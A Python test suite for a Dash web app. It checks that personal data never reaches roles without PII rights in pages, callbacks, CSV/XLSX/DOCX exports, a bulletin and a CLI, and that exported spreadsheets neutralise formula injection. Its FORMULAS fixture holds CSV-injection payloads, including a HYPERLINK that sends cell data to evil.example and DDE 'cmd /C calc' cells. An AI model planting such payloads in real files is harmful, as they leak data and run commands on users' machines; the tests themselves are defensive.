"""No personal data reaches a role without PII rights, on any path: every page (layout and the callbacks
its components fire with their initial values), every table export (CSV and XLSX), the monthly bulletin
(PDF text, XLSX, DOCX), and the CLI's lead list and lead export.

The warehouse is the demo copy with known personal data planted where the probe of issue #21 found it
leaking: complaint titles and text, lead titles, reasons, feedback, timeline notes and the complaints
quoted in lead evidence. Pages, callbacks and exports are enumerated from dash.page_registry and
app.callback_map, so a page added later is crawled without editing this file.
"""

from __future__ import annotations

import base64
import io
import json
import re
import sys
import zipfile

import pytest
from click.testing import CliRunner
from sqlalchemy import select, text, update

from data_access import db
from data_access.schema import AppUser, Department, RiskLead, RiskLeadEvent
from data_access.scope import PII_ROLES, ROLES, Scope
from evaluation import indicators
from security import access, testing, users
from tests.db_fixtures import app_warehouse

PHONE, ID_NUMBER, EMAIL, CARD = "13812345678", "410102199003071234", "zhang.san@example.com", "6222021234567890123"
PII_TEXT = f"联系电话{PHONE}，身份证{ID_NUMBER}，邮箱{EMAIL}，银行卡{CARD}。"
# Cells that would run in a spreadsheet (OWASP CSV injection), planted at the start of titles and reasons.
FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
            "-2+3", "\t=1+1")
# What must never appear: the numbers in any spelling a browser or spreadsheet would show, and the mailbox.
LEAKS = (PHONE, ID_NUMBER, "zhang.san", CARD)
ROLES_WITHOUT_PII = sorted(set(ROLES) - PII_ROLES)
PASSWORDS = {role: (username, password) for username, role, _dept, password in users.DEMO_USERS}
GRID_BLOCK = {"startRow": 0, "endRow": 100, "sortModel": [], "filterModel": {}}


def _leaks(blob: str) -> list[str]:
    digits_only = re.sub(r"[\s\-.]", "", blob)
    return [p for p in LEAKS if p in blob or (p.isdigit() and p in digits_only)]


def _plant_pii() -> None:
    """Personal data in every free-text field that pages, exports and jobs render."""
    with db.session_scope() as session:
        session.execute(text("UPDATE fact_hotline_ticket SET title = title || :t, content = content || :t"),
                        {"t": PII_TEXT})
        for n, formula in enumerate(FORMULAS):
            session.execute(text("UPDATE fact_hotline_ticket SET title = :f || title, content = :f || content"
                                 " WHERE ticket_id % :k = :n"), {"f": formula, "k": len(FORMULAS), "n": n})
        session.execute(update(RiskLead).values(title=RiskLead.title + f"（来电{PHONE}）", reason=RiskLead.reason + PII_TEXT))
        session.execute(update(RiskLeadEvent).values(note=PII_TEXT))
        for lead in session.scalars(select(RiskLead)):
            lead.title = FORMULAS[lead.lead_id % len(FORMULAS)] + lead.title
            evidence = dict(lead.evidence or {})
            quoted = evidence.get("complaints") or [{"order_no": "KF000", "accepted_at": "2026-06-01 08:00:00"}]
            evidence["complaints"] = [{**c, "title": f"诉求{PHONE}", "content": PII_TEXT} for c in quoted]
            lead.evidence = evidence
            if lead.feedback_at is not None:
                lead.feedback_text = PII_TEXT


@pytest.fixture(scope="module")
def app(demo_db_path, tmp_path_factory):
    workdir = tmp_path_factory.mktemp("pii_crawl")
    with app_warehouse(workdir, demo_db_path, name="web.db"):
        users.create_demo_users(db.engine())
        _plant_pii()
        with db.engine().begin() as conn:
            indicators.rebuild(conn)  # the rankings page and the bulletin need the indicator mart
        from app import create_app

        app = create_app()
        app.server.test_client().get("/login")
        yield app


def _client(app, role: str):
    client = app.server.test_client()
    username, password = PASSWORDS[role]
    assert testing.log_in(client, username, password).status_code == 302
    return client


def _scope(role: str) -> Scope:
    with db.session_scope() as session:
        user = session.scalar(select(AppUser).where(AppUser.username == PASSWORDS[role][0]))
        return Scope(user.username, user.role, user.dept_code)


# ------------------------------------------------------------------------------------ requests as a browser

def _components(tree, found: dict) -> dict:  # noqa: ANN001
    """Every component with an id in a layout JSON: id (JSON text) → props."""
    if isinstance(tree, list):
        for item in tree:
            _components(item, found)
    elif isinstance(tree, dict):
        props = tree.get("props")
        if isinstance(props, dict) and "type" in tree and "id" in props:
            found[json.dumps(props["id"], sort_keys=True)] = props
        for value in tree.values():
            _components(value, found)
    return found


def _initial(prop: str, value):  # noqa: ANN001, ANN202
    """What the browser sends for ``prop``: the layout's value, a click for buttons, a first grid block."""
    if prop == "n_clicks":
        return 1
    if prop == "n_intervals":
        return 1
    if prop == "getRowsRequest":
        return GRID_BLOCK
    return value


def _matches(pattern: dict, concrete) -> bool:  # noqa: ANN001
    return isinstance(concrete, dict) and set(pattern) == set(concrete) and all(
        isinstance(v, list) or concrete[k] == v for k, v in pattern.items())


def _dep(dep: dict, components: dict):  # noqa: ANN202
    component_id, prop = dep["id"], dep["property"]
    if isinstance(component_id, str) and not component_id.startswith("{"):
        props = components.get(json.dumps(component_id))
        if props is None:
            return None
        return {"id": component_id, "property": prop, "value": _initial(prop, props.get(prop))}
    pattern = json.loads(component_id) if isinstance(component_id, str) else component_id
    hits = [json.loads(k) for k in components if _matches(pattern, json.loads(k))]
    specs = [{"id": h, "property": prop, "value": _initial(prop, components[json.dumps(h, sort_keys=True)].get(prop))}
             for h in hits]
    if any(v == ["ALL"] for v in pattern.values()):
        return specs
    return specs[0] if specs else None


def _prop_id(item: dict) -> str:
    """``id.property`` as dash-renderer writes it (pattern ids as compact JSON with sorted keys)."""
    component_id = item["id"]
    if isinstance(component_id, dict):
        component_id = json.dumps(component_id, sort_keys=True, separators=(",", ":"))
    return f"{component_id}.{item['property']}"


def _outputs(key: str) -> list[dict]:
    specs = key[2:-2].split("...") if key.startswith("..") else [key]
    out = []
    for spec in specs:
        component_id, prop = spec.rsplit(".", 1)
        out.append({"id": json.loads(component_id) if component_id.startswith("{") else component_id, "property": prop})
    return out


def _post(client, body: dict):  # noqa: ANN001, ANN202
    return client.post("/_dash-update-component", json=body, headers=testing.csrf_headers(client))


def _render(app, client, path: str) -> tuple[str, dict]:
    """The page's layout as the router callback returns it, and its components."""
    router = next(k for k in app.callback_map if access.PAGES_CONTENT_ID in k)
    cb = app.callback_map[router]
    path_only, _, search = path.partition("?")
    values = {("_pages_location", "pathname"): path_only, ("_pages_location", "search"): f"?{search}" if search else ""}
    spec = [{"id": d["id"], "property": d["property"], "value": values.get((d["id"], d["property"]))}
            for d in cb["inputs"]]
    state = [{"id": d["id"], "property": d["property"], "value": values.get((d["id"], d["property"]))}
             for d in cb["state"]]
    outputs = _outputs(router)
    response = _post(client, {"output": router, "outputs": outputs if len(outputs) > 1 else outputs[0],
                              "inputs": spec, "state": state, "changedPropIds": ["_pages_location.pathname"]})
    assert response.status_code == 200, (path, response.status_code, response.text[:300])
    return response.text, _components(response.json, {})


def _fire_page_callbacks(app, client, page: dict, components: dict) -> list[str]:
    """Every server callback of ``page`` with the values its components start with; the response texts."""
    texts = []
    for key, cb in app.callback_map.items():
        owners = {(access.page_for_component(o["id"]) or {}).get("module") for o in _outputs(key)}
        if owners != {page["module"]} or cb.get("background") or "callback" not in cb:
            continue
        inputs = [_dep(d, components) for d in cb["inputs"]]
        state = [_dep(d, components) for d in cb["state"]]
        if any(i is None for i in inputs + state):
            continue  # its components appear only after another interaction
        outputs = [_dep(o, components) for o in _outputs(key)]
        if any(o is None for o in outputs):
            continue
        outputs = [[{"id": i["id"], "property": i["property"]} for i in o] if isinstance(o, list)
                   else {"id": o["id"], "property": o["property"]} for o in outputs]
        first = next((i if isinstance(i, dict) else i[0] for i in inputs if i), None)
        body = {"output": key, "outputs": outputs if key.startswith("..") else outputs[0], "inputs": inputs,
                "state": state, "changedPropIds": [_prop_id(first)] if first else []}
        response = _post(client, body)
        assert response.status_code in (200, 204), (key, response.status_code, response.text[:300])
        texts.append(response.text)
    return texts


def _visible_lead(role: str) -> int:
    scope = _scope(role)
    with db.session_scope() as session:
        return session.scalar(scope.restrict(select(RiskLead.lead_id), RiskLead.dept_code)
                              .where(RiskLead.evidence.is_not(None)).order_by(RiskLead.lead_id))


def _paths(role: str) -> list[tuple[dict, str]]:
    out = []
    for page in access.visible_pages(role):
        if page.get("path_template"):
            out.append((page, page["path_template"].replace("<lead_id>", str(_visible_lead(role)))))
        else:
            out.append((page, page["path"]))
    return out


@pytest.mark.parametrize("role", ROLES_WITHOUT_PII)
def test_no_page_or_callback_shows_personal_data(app, role):
    client = _client(app, role)
    crawled, fired = [], 0
    for page, path in _paths(role):
        layout_text, components = _render(app, client, path)
        assert _leaks(layout_text) == [], (role, path, "layout")
        for body in _fire_page_callbacks(app, client, page, components):
            assert _leaks(body) == [], (role, path, body[:400])
            fired += 1
        crawled.append(path)
    assert crawled and fired >= len(crawled), (role, crawled, fired)


def test_the_crawl_sees_planted_data_for_the_analyst(app):
    """The crawl reaches the planted text: the analyst (PII rights) gets it unmasked on the lead page."""
    client = _client(app, "ANALYST")
    layout_text, _ = _render(app, client, f"/leads/{_visible_lead('ANALYST')}")
    assert PHONE in layout_text and EMAIL in layout_text


# -------------------------------------------------------------------------------------------- files

def _file_text(payload: dict) -> str:
    raw = base64.b64decode(payload["content"]) if payload.get("base64") else payload["content"].encode("utf-8")
    if raw[:2] == b"PK":  # XLSX / DOCX: the XML parts hold every cell and paragraph
        with zipfile.ZipFile(io.BytesIO(raw)) as archive:
            return "".join(archive.read(n).decode("utf-8", "replace") for n in archive.namelist() if n.endswith(".xml"))
    return raw.decode("utf-8-sig")


def _export_states(app, page: dict, components: dict) -> list:
    for key, cb in app.callback_map.items():
        owners = {(access.page_for_component(o["id"]) or {}).get("module") for o in _outputs(key)}
        if owners == {page["module"]} and cb.get("background"):
            return [(_dep(d, components) or {}).get("value") for d in cb["state"]]
    return []


@pytest.mark.parametrize("role", ROLES_WITHOUT_PII)
def test_no_table_export_carries_personal_data(app, role):
    from ui import exports

    client, scope, exported = _client(app, role), _scope(role), 0
    for page, path in _paths(role):
        build = getattr(sys.modules[page["module"]], "export_table", None)
        if build is None:
            continue
        _, components = _render(app, client, path)
        tables = {json.loads(k)["table"] for k in components
                  if k.startswith("{") and json.loads(k).get("type") == f"{access.id_prefix(page)}csv"}
        states = _export_states(app, page, components)
        for table in sorted(tables):
            with db.session_scope() as session:
                built = build(session, scope, table, *states)
            for fmt in exports.FORMATS:
                if built is not None:
                    assert _leaks(_file_text(exports.download(*built, fmt))) == [], (role, page["module"], table, fmt)
                    exported += 1
    if role != "WALL":
        assert exported > 0


@pytest.mark.parametrize("role", ["LEADER", "DEPT_HEAD"])
def test_bulletin_carries_no_personal_data(app, role):
    from evaluation import render, reports
    from pages import my_department

    scope = _scope(role)
    with db.session_scope() as session:
        month = session.scalar(select(RiskLead.created_at).order_by(RiskLead.created_at.desc())).strftime("%Y-%m")
        unit = reports.resolve_unit(scope, None) or session.scalar(select(Department.dept_code).limit(1))
        doc = reports.monthly_bulletin(session, month, scope=scope, unit=unit)
        assert _leaks(render.text_of(doc)) == []
        for fmt in ("xlsx", "docx"):
            _name, content = my_department.bulletin_file(session, scope, unit, month, fmt)
            assert _leaks(_file_text({"content": base64.b64encode(content).decode(), "base64": True})) == [], fmt


def test_cli_lead_list_and_export_carry_no_personal_data(app, tmp_path):
    from bianjian_cli import cli

    runner = CliRunner()
    listed = runner.invoke(cli, ["leads", "list", "--json", "--limit", "50"])
    assert listed.exit_code == 0, listed.output
    assert "来电" in listed.output and _leaks(listed.output) == []
    out = tmp_path / "leads.csv"
    exported = runner.invoke(cli, ["leads", "export", "--format", "csv", "--out", str(out)])
    assert exported.exit_code == 0, exported.output
    assert _leaks(out.read_text(encoding="utf-8-sig")) == []


# --------------------------------------------------------------------------- formulas in files (#21.4)

def _spreadsheet_cells(payload: dict) -> tuple[list, list]:
    """(openpyxl cells of every sheet, or [] for CSV; CSV cells as read by the csv module, or [])."""
    import csv

    import openpyxl

    raw = base64.b64decode(payload["content"]) if payload.get("base64") else payload["content"].encode("utf-8")
    if raw[:2] == b"PK":
        book = openpyxl.load_workbook(io.BytesIO(raw))
        return [c for ws in book.worksheets for row in ws.iter_rows() for c in row], []
    return [], [c for row in csv.reader(io.StringIO(raw.decode("utf-8-sig"))) for c in row]


def _assert_inert(payload: dict, where) -> int:  # noqa: ANN001
    """No formula cell in an XLSX, no CSV cell a spreadsheet would evaluate; returns the planted cells seen."""
    from data_access.spreadsheet import _PLAIN_NUMBER, FORMULA_TRIGGERS

    xlsx, csv_cells = _spreadsheet_cells(payload)
    assert [c.coordinate for c in xlsx if c.data_type == "f"] == [], where
    live = [c for c in csv_cells if c.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(c)]
    assert live == [], (where, live[:3])
    planted = [c.value for c in xlsx if isinstance(c.value, str) and c.value.startswith(FORMULAS)]
    return len(planted) + sum(c.startswith(tuple("'" + f for f in FORMULAS)) for c in csv_cells)


@pytest.mark.parametrize("role", ["ANALYST", "LEADER"])
def test_no_export_carries_a_live_formula(app, role):
    """Every page's table export, CSV and XLSX, with planted formulas in complaint and lead titles."""
    from ui import exports

    client, scope, planted = _client(app, role), _scope(role), 0
    for page, path in _paths(role):
        build = getattr(sys.modules[page["module"]], "export_table", None)
        if build is None:
            continue
        _, components = _render(app, client, path)
        tables = {json.loads(k)["table"] for k in components
                  if k.startswith("{") and json.loads(k).get("type") == f"{access.id_prefix(page)}csv"}
        for table in sorted(tables):
            with db.session_scope() as session:
                built = build(session, scope, table, *_export_states(app, page, components))
            for fmt in exports.FORMATS if built is not None else ():
                planted += _assert_inert(exports.download(*built, fmt), (page["module"], table, fmt))
    assert planted > 0, "the exports never carried the planted formulas"


def test_xlsx_exports_keep_numbers_numbers_and_text_text():
    import pandas as pd

    from ui import exports

    df = pd.DataFrame({"标题": list(FORMULAS) + ["普通文本"], "金额": [-12.5, -3, 0, 4, 5.25, -7]})
    xlsx, _ = _spreadsheet_cells(exports.download(df, "t", "xlsx"))
    values = {(c.row, c.column): (c.value, c.data_type) for c in xlsx}
    assert [values[(r, 1)] for r in range(2, 8)] == [(v, "s") for v in df["标题"]]  # the text, exactly, as text
    assert [values[(r, 2)] for r in range(2, 8)] == [(v, "n") for v in df["金额"]]  # negative numbers stay numbers
    _, cells = _spreadsheet_cells(exports.download(df, "t", "csv"))
    assert cells[2:4] == ["'" + FORMULAS[0], "-12.5"] and "'-2+3" in cells and "-3.0" in cells


def test_bulletin_and_cli_exports_carry_no_live_formula(app, tmp_path):
    from bianjian_cli import cli
    from evaluation import reports
    from pages import my_department

    scope = _scope("LEADER")
    with db.session_scope() as session:
        month = session.scalar(select(RiskLead.created_at).order_by(RiskLead.created_at.desc())).strftime("%Y-%m")
        unit = session.scalar(select(Department.dept_code).order_by(Department.dept_code).limit(1))
        assert reports.monthly_bulletin(session, month, scope=scope, unit=unit)
        _name, content = my_department.bulletin_file(session, scope, unit, month, "xlsx")
    _assert_inert({"content": base64.b64encode(content).decode(), "base64": True}, "bulletin")
    out = tmp_path / "leads.csv"
    result = CliRunner().invoke(cli, ["leads", "export", "--format", "csv", "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert _assert_inert({"content": out.read_text(encoding="utf-8-sig")}, "leads export") > 0
